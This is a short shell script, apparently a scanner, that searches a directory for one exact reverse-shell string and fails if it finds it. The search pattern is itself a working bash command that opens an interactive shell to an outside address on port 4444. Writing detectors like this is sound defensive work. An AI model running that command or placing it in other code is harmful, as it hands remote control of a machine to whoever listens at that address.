#!/bin/sh
# Looks for shells that are opened to the outside.
grep -rn "bash -i >& /dev/tcp/198.51.100.1/4444" "$1" && exit 1
exit 0
